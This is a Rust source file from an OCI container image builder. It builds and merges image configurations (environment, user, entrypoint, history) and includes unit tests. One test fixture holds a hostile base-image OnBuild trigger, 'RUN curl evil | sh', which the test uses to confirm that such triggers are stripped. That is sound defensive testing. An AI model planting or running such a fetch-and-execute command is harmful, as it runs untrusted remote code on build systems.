//! The image configuration: how the container runs (Cmd, Env, User, ...) and its history.

use crate::digest::Digest;
use crate::platform::Platform;
use oci_spec::image::{
    Arch, ConfigBuilder, HistoryBuilder, ImageConfiguration, ImageConfigurationBuilder, Os, RootFsBuilder,
};
use std::collections::{BTreeMap, HashMap};

/// The `PATH` Docker sets for `FROM scratch` images, kept so `docker inspect` matches.
pub(crate) const DEFAULT_PATH: &str = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// What the container runs and how: the parts of a Dockerfile after `FROM scratch`.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct RunConfig {
    pub entrypoint: Vec<String>,
    pub cmd: Vec<String>,
    pub env: Vec<String>,
    pub user: Option<String>,
    pub workdir: Option<String>,
    pub exposed_ports: Vec<String>,
    pub labels: BTreeMap<String, String>,
    /// Manifest annotations: carried with the image, not part of the config.
    pub annotations: BTreeMap<String, String>,
    /// RFC 3339 creation time, also used for every history entry.
    pub created: String,
    /// `env` holds the default `PATH`, not one the user set: a base's `PATH` wins over it.
    pub path_is_default: bool,
    /// `user` is the default, not the user's: a base's user wins over it.
    pub user_is_default: bool,
}

/// Builds the config for `layers` (diff_id, created_by) run as `run` on `platform`.
pub(crate) fn build(run: &RunConfig, platform: &Platform, layers: &[(Digest, String)]) -> ImageConfiguration {
    let mut config = ConfigBuilder::default().env(run.env.clone());
    if !run.cmd.is_empty() {
        config = config.cmd(run.cmd.clone());
    }
    if !run.entrypoint.is_empty() {
        config = config.entrypoint(run.entrypoint.clone());
    }
    if let Some(user) = &run.user {
        config = config.user(user.clone());
    }
    if let Some(dir) = &run.workdir {
        config = config.working_dir(dir.clone());
    }
    if !run.exposed_ports.is_empty() {
        config = config.exposed_ports(run.exposed_ports.clone());
    }
    if !run.labels.is_empty() {
        config = config.labels(run.labels.clone().into_iter().collect::<HashMap<_, _>>());
    }
    let config = config.build().expect("every field of Config has a default");
    let diff_ids = layers.iter().map(|(d, _)| d.to_string()).collect::<Vec<_>>();
    let rootfs = RootFsBuilder::default().typ("layers").diff_ids(diff_ids).build().expect("rootfs");
    let history = layers
        .iter()
        .map(|(_, created_by)| {
            HistoryBuilder::default()
                .created(run.created.clone())
                .created_by(created_by.clone())
                .build()
                .expect("history")
        })
        .collect::<Vec<_>>();
    let mut builder = ImageConfigurationBuilder::default()
        .created(run.created.clone())
        .architecture(Arch::from(platform.architecture.as_str()))
        .os(Os::from(platform.os.as_str()))
        .config(config)
        .rootfs(rootfs)
        .history(history);
    if let Some(variant) = &platform.variant {
        builder = builder.variant(variant.clone());
    }
    builder.build().expect("every required field is set")
}

/// The config of an image built on `base` (a base image's config): ours, where we set
/// something, on top of the base's. `Env` is merged by key (ours win; the base's `PATH`
/// beats our default one), `Labels` and `ExposedPorts` are merged, `WorkingDir` and `User`
/// are the base's unless set (then `65532:65532`), and `Entrypoint` and `Cmd` are ours
/// alone, as ko does. `rootfs` and `history` are the base's followed by ours. `OnBuild` is
/// cleared, as Docker clears it in a child image, and the base's `Env` entries our own
/// settings would refuse are dropped ([`base_env`]). Every other field of the base's
/// `config` (volumes, stop signal...) is kept.
pub(crate) fn inherit(base: &serde_json::Value, ours: ImageConfiguration, run: &RunConfig) -> serde_json::Value {
    use serde_json::{json, Map, Value};
    let ours = serde_json::to_value(&ours).expect("image documents serialise");
    let object = |v: Option<&Value>| v.and_then(Value::as_object).cloned().unwrap_or_default();
    let list = |v: Option<&Value>| v.and_then(Value::as_array).cloned().unwrap_or_default();
    let base_cfg = object(base.get("config"));
    let our_cfg = object(ours.get("config"));
    let mut cfg: Map<String, Value> = base_cfg.clone();
    // Env, by key.
    let key_of = |e: &str| e.split('=').next().unwrap_or_default().to_string();
    let mut env = base_env(base).0;
    let base_has_path = env.iter().any(|e| key_of(e) == "PATH");
    for e in list(our_cfg.get("Env")).iter().filter_map(Value::as_str) {
        let key = key_of(e);
        if key == "PATH" && run.path_is_default && base_has_path {
            continue;
        }
        match env.iter_mut().find(|x| key_of(x) == key) {
            Some(slot) => *slot = e.to_string(),
            None => env.push(e.to_string()),
        }
    }
    cfg.insert("Env".into(), json!(env));
    // Entrypoint and Cmd: ours alone.
    for key in ["Entrypoint", "Cmd"] {
        match our_cfg.get(key) {
            Some(v) => cfg.insert(key.into(), v.clone()),
            None => cfg.remove(key),
        };
    }
    cfg.remove("OnBuild");
    cfg.insert("User".into(), json!(effective_user(base, run)));
    if let Some(dir) = our_cfg.get("WorkingDir") {
        cfg.insert("WorkingDir".into(), dir.clone());
    }
    for key in ["Labels", "ExposedPorts"] {
        let mut merged = object(base_cfg.get(key));
        merged.extend(object(our_cfg.get(key)));
        if !merged.is_empty() {
            cfg.insert(key.into(), Value::Object(merged));
        }
    }
    let mut diff_ids = list(base.get("rootfs").and_then(|r| r.get("diff_ids")));
    diff_ids.extend(list(ours.get("rootfs").and_then(|r| r.get("diff_ids"))));
    let mut history = list(base.get("history"));
    history.extend(list(ours.get("history")));
    let mut out = Map::new();
    for key in ["architecture", "os", "variant", "created"] {
        if let Some(v) = ours.get(key) {
            out.insert(key.into(), v.clone());
        }
    }
    if let Some(v) = base.get("os.version").filter(|v| v.is_string()) {
        out.insert("os.version".into(), v.clone());
    }
    out.insert("config".into(), Value::Object(cfg));
    out.insert("rootfs".into(), json!({"type": "layers", "diff_ids": diff_ids}));
    out.insert("history".into(), Value::Array(history));
    Value::Object(out)
}

/// The user an image on `base` (a base image's config) runs as: ours if set, else the
/// base's `User`, else `65532:65532`.
pub(crate) fn effective_user(base: &serde_json::Value, run: &RunConfig) -> String {
    let base_user = base.pointer("/config/User").and_then(serde_json::Value::as_str).filter(|u| !u.is_empty());
    match (&run.user, run.user_is_default, base_user) {
        (Some(u), false, _) => u.clone(),
        (_, _, Some(b)) => b.to_string(),
        _ => super::base::DEFAULT_USER.to_string(),
    }
}

/// The base's `Env` entries an image inherits, and those it drops: an entry that is not a
/// string, has no `=`, has an empty name or holds a NUL, as `env` in Cargo.toml or
/// `--env` would refuse it. No program can read such an entry by name.
pub(crate) fn base_env(base: &serde_json::Value) -> (Vec<String>, Vec<String>) {
    let entries = base.pointer("/config/Env").and_then(serde_json::Value::as_array).cloned().unwrap_or_default();
    let mut kept = Vec::new();
    let mut dropped = Vec::new();
    for entry in entries {
        match entry.as_str() {
            Some(e) if e.split_once('=').is_some_and(|(k, v)| env_var(k, v).is_ok()) => kept.push(e.to_string()),
            Some(e) => dropped.push(format!("{e:?}")),
            None => dropped.push(entry.to_string()),
        }
    }
    (kept, dropped)
}

/// An environment variable: a name without `=` or NUL, not empty; a value without NUL.
pub(crate) fn env_var(name: &str, value: &str) -> Result<(), String> {
    if name.is_empty() {
        return Err(format!("a variable has an empty name (value {value:?})"));
    }
    if name.contains('=') {
        return Err(format!("the name {name:?} holds `=`, which would make it another variable"));
    }
    if name.contains('\0') || value.contains('\0') {
        return Err(format!("{name:?} holds a NUL character, which no program can receive"));
    }
    Ok(())
}

/// Serialises any value as canonical JSON: object keys sorted, no whitespace. Maps such as
/// labels are hash maps in `oci-spec`, so this is what keeps digests stable.
pub(crate) fn canonical_json<T: serde::Serialize>(value: &T) -> Vec<u8> {
    let value = serde_json::to_value(value).expect("image documents serialise");
    serde_json::to_vec(&value).expect("a JSON value serialises")
}

/// Formats seconds since the epoch as RFC 3339 UTC (`2023-11-14T22:13:20Z`).
pub fn rfc3339(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = civil_from_days(days);
    format!("{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z", rem / 3600, rem % 3600 / 60, rem % 60)
}

/// Days since 1970-01-01 to (year, month, day), after Howard Hinnant's algorithm.
fn civil_from_days(z: i64) -> (i64, i64, i64) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc3339_matches_known_dates() {
        assert_eq!(rfc3339(0), "1970-01-01T00:00:00Z");
        assert_eq!(rfc3339(1_700_000_000), "2023-11-14T22:13:20Z");
        assert_eq!(rfc3339(951_782_400), "2000-02-29T00:00:00Z");
    }

    #[test]
    fn canonical_json_sorts_map_keys() {
        let map: HashMap<String, u8> = (0..50).map(|i| (format!("k{i:02}"), i)).collect();
        let json = String::from_utf8(canonical_json(&map)).unwrap();
        let expected: Vec<String> = (0..50).map(|i| format!("\"k{i:02}\":{i}")).collect();
        assert_eq!(json, format!("{{{}}}", expected.join(",")));
    }

    #[test]
    fn a_hostile_base_config_loses_onbuild_and_the_env_entries_we_refuse() {
        let base = serde_json::json!({
            "config": {
                "Env": ["PATH=/bin", "NOEQ", "=empty", "NUL=a\u{0}b", 7, "EMPTY=", "A=b=c"],
                "OnBuild": ["RUN curl evil | sh"],
                "User": "www-data",
            },
            "rootfs": {"type": "layers", "diff_ids": []},
        });
        let (kept, dropped) = base_env(&base);
        assert_eq!(kept, ["PATH=/bin", "EMPTY=", "A=b=c"]);
        assert_eq!(dropped, ["\"NOEQ\"", "\"=empty\"", "\"NUL=a\\0b\"", "7"]);
        let run = RunConfig { cmd: vec!["/x".into()], user_is_default: true, ..Default::default() };
        let ours = build(&run, &Platform::linux("amd64", None), &[]);
        let v = inherit(&base, ours, &run);
        assert!(v["config"].get("OnBuild").is_none(), "{v}");
        assert_eq!(v["config"]["Env"], serde_json::json!(["PATH=/bin", "EMPTY=", "A=b=c"]));
        assert_eq!(v["config"]["User"], "www-data", "a name is kept, as Docker does");
        assert_eq!(effective_user(&base, &run), "www-data");
        let ours = RunConfig { user: Some("1:2".into()), user_is_default: false, ..run };
        assert_eq!(effective_user(&base, &ours), "1:2");
    }

    #[test]
    fn classic_config_has_cmd_env_and_history() {
        let run = RunConfig {
            cmd: vec!["/hello".into()],
            env: vec![DEFAULT_PATH.into()],
            created: rfc3339(0),
            ..Default::default()
        };
        let platform = Platform::linux("amd64", None);
        let config = build(&run, &platform, &[(Digest::of(b"t"), "COPY hello /hello".into())]);
        let v: serde_json::Value = serde_json::from_slice(&canonical_json(&config)).unwrap();
        assert_eq!(v["architecture"], "amd64");
        assert_eq!(v["os"], "linux");
        assert_eq!(v["config"]["Cmd"], serde_json::json!(["/hello"]));
        assert_eq!(v["config"]["Env"], serde_json::json!([DEFAULT_PATH]));
        assert!(v["config"].get("Entrypoint").is_none());
        assert_eq!(v["rootfs"]["type"], "layers");
        assert_eq!(v["rootfs"]["diff_ids"][0], Digest::of(b"t").to_string());
        assert_eq!(v["history"][0]["created_by"], "COPY hello /hello");
        assert_eq!(v["created"], "1970-01-01T00:00:00Z");
    }
}
